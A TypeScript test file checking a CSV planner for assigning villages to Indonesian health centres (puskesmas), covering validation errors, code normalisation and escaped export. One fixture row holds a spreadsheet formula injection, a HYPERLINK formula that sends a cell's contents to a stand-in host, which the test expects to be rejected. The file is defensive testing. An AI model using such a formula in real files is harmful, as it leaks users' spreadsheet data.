import { describe, expect, it } from 'vitest';
import {
  planWilayahKerjaCsv,
  wilayahKerjaCsvLines,
  wilayahKerjaCsvPuskesmasKodes,
  type WilayahKerjaCsvContext,
} from './wilayah-kerja-csv.ts';

const ctx: WilayahKerjaCsvContext = {
  kabupaten: '99.01',
  mulai: '2026-12-01',
  puskesmas: new Map([
    ['P1', { nama: 'Puskesmas Satu', kabupaten: '99.01' }],
    ['P2', { nama: 'Puskesmas Dua', kabupaten: '99.01' }],
    ['X9', { nama: 'Puskesmas Lain', kabupaten: '12.07' }],
  ]),
  desa: new Set(['99.01.01.2001', '99.01.01.2002', '99.01.02.2001', '99.01.02.2002']),
  current: new Map([
    ['99.01.01.2001', { puskesmas: 'P1', validFrom: '2025-01-01', confirmed: true }],
    ['99.01.01.2002', { puskesmas: 'P1', validFrom: '2025-01-01', confirmed: false }],
    ['99.01.02.2001', { puskesmas: 'P2', validFrom: '2026-12-01', confirmed: true }],
  ]),
};
const H = ['kode_puskesmas', 'nama', 'kode_desa'];

describe('planWilayahKerjaCsv', () => {
  it('plans moves, confirmations, new puskesmas and unchanged rows', () => {
    const plan = planWilayahKerjaCsv(
      [
        H,
        ['P1', 'Puskesmas Satu', '99.01.01.2001'], // unchanged
        ['P1', '', '9901012002'], // same puskesmas, unconfirmed → confirm; kode without dots → warning
        ['', '', ''], // blank line skipped
        ['P9901020001', 'Puskesmas Baru', '99.01.02.2002'], // no puskesmas yet → move to a new puskesmas (Kemenkes kode)
      ],
      ctx,
    );
    expect(plan.errors).toEqual([]);
    expect(plan.rows).toBe(3);
    expect(plan.unchanged).toBe(1);
    expect(plan.confirms).toEqual([{ row: 3, desa: '99.01.01.2002', puskesmas: 'P1' }]);
    expect(plan.newPuskesmas).toEqual([{ kode: 'P9901020001', nama: 'Puskesmas Baru' }]);
    expect(plan.moves).toEqual([{ row: 5, desa: '99.01.02.2002', from: null, to: 'P9901020001' }]);
    expect(plan.warnings).toEqual([
      {
        row: 3,
        column: 'kode_desa',
        code: 'KODE_NORMALISED',
        message: 'Kode "9901012002" dibaca sebagai 99.01.01.2002.',
      },
    ]);
  });

  it('reports every bad row at its row and column', () => {
    const plan = planWilayahKerjaCsv(
      [
        H,
        ['P2', '', '99.01.01.20x1'],
        ['P2', '', '12.07.01.2001'],
        ['P2', '', '99.01.09.2001'],
        ['P2', '', '99.01.01'],
        ['X9', '', '99.01.01.2001'],
        ['P2', '', '99.01.01.2002'],
        ['P2', '', '99.01.01.2002'],
        ['9901001', '', '99.01.02.2002'],
        ['', 'Tanpa Kode', '99.01.02.2002'],
        ['P1', '', '99.01.02.2001'],
        ['=HYPERLINK("http://contoh.test/?"&A3,"klik")', 'Puskesmas Jahat', '99.01.01.2001'],
      ],
      ctx,
    );
    expect(plan.errors.map((e) => [e.row, e.column, e.code])).toEqual([
      [2, 'kode_desa', 'KODE_INVALID'],
      [3, 'kode_desa', 'KODE_OUTSIDE_WILAYAH'],
      [4, 'kode_desa', 'KODE_UNKNOWN'],
      [5, 'kode_desa', 'KODE_NOT_DESA'],
      [6, 'kode_puskesmas', 'PUSKESMAS_OTHER_KABUPATEN'],
      [8, 'kode_desa', 'DUPLICATE'],
      [9, 'nama', 'PUSKESMAS_UNKNOWN'],
      [10, 'kode_desa', 'DUPLICATE'],
      [10, 'kode_puskesmas', 'VALUE_REQUIRED'],
      [11, 'kode_desa', 'DATE_BEFORE_CURRENT'],
      [12, 'kode_desa', 'DUPLICATE'],
      [12, 'kode_puskesmas', 'PUSKESMAS_KODE_INVALID'],
    ]);
    expect(plan.errors.at(-1)!.message).toBe(
      'Kode puskesmas "=HYPERLINK("http://contoh.test/?"&A3,"kl…" tidak dikenal dan tidak sah untuk puskesmas baru: ' +
        'gunakan kode Komdat 7 angka (misalnya 1010453) atau kode Kemenkes huruf P dan 10 angka (misalnya P1210090201).',
    );
    expect(plan.newPuskesmas).toEqual([]);
    expect(plan.errors[2]!.message).toBe('Kode desa 99.01.09.2001 tidak dikenal di daftar wilayah Kemendagri.');
    expect(plan.errors[4]!.message).toBe('Puskesmas X9 (Puskesmas Lain) berada di kabupaten/kota 12.07, bukan 99.01.');
    expect(plan.errors[5]!.message).toBe(
      'Desa 99.01.01.2002 sudah tercantum di baris 7: satu desa hanya masuk satu puskesmas.',
    );
    expect(plan.moves).toEqual([{ row: 7, desa: '99.01.01.2002', from: 'P1', to: 'P2' }]);
  });

  it('refuses an empty file, a header without rows, missing columns and two names for one new puskesmas', () => {
    expect(planWilayahKerjaCsv([], ctx).errors.map((e) => e.code)).toEqual(['FILE_EMPTY']);
    expect(planWilayahKerjaCsv([H, ['', '', '']], ctx).errors).toEqual([
      { row: null, column: null, code: 'FILE_EMPTY', message: 'Berkas hanya berisi baris judul, tanpa baris desa.' },
    ]);
    expect(
      planWilayahKerjaCsv(
        [
          ['kode_puskesmas', 'desa'],
          ['P1', '99.01.01.2001'],
        ],
        ctx,
      ).errors.map((e) => [e.row, e.column, e.code]),
    ).toEqual([
      [1, 'nama', 'HEADER_MISSING'],
      [1, 'kode_desa', 'HEADER_MISSING'],
    ]);
    const plan = planWilayahKerjaCsv(
      [H, ['9901002', 'Baru A', '99.01.02.2002'], ['9901002', 'Baru B', '99.01.01.2001']],
      ctx,
    );
    expect(plan.errors.map((e) => [e.row, e.column, e.code])).toEqual([[3, 'nama', 'PUSKESMAS_NAME_CONFLICT']]);
  });

  it('header names are read case-insensitively and in any order', () => {
    const plan = planWilayahKerjaCsv(
      [
        ['Kode_Desa', 'NAMA', 'kode_puskesmas'],
        ['99.01.01.2001', '', 'P2'],
      ],
      ctx,
    );
    expect(plan.errors).toEqual([]);
    expect(plan.moves).toEqual([{ row: 2, desa: '99.01.01.2001', from: 'P1', to: 'P2' }]);
  });
});

describe('export lines and kode list', () => {
  it('writes a header and CRLF rows, and lists the puskesmas kodes of a file', () => {
    expect(
      wilayahKerjaCsvLines([
        { kodePuskesmas: 'P1', nama: 'Satu, Dua', kodeDesa: '99.01.01.2001' },
        { kodePuskesmas: '1010453', nama: '=1+1', kodeDesa: '99.01.01.2002' },
      ]),
    ).toBe('kode_puskesmas,nama,kode_desa\r\nP1,"Satu, Dua",99.01.01.2001\r\n1010453,\'=1+1,99.01.01.2002\r\n');
    expect(wilayahKerjaCsvPuskesmasKodes([H, ['P1', '', 'x'], [' P1 ', '', 'y'], ['P2', '', 'z']])).toEqual([
      'P1',
      'P2',
    ]);
  });
});
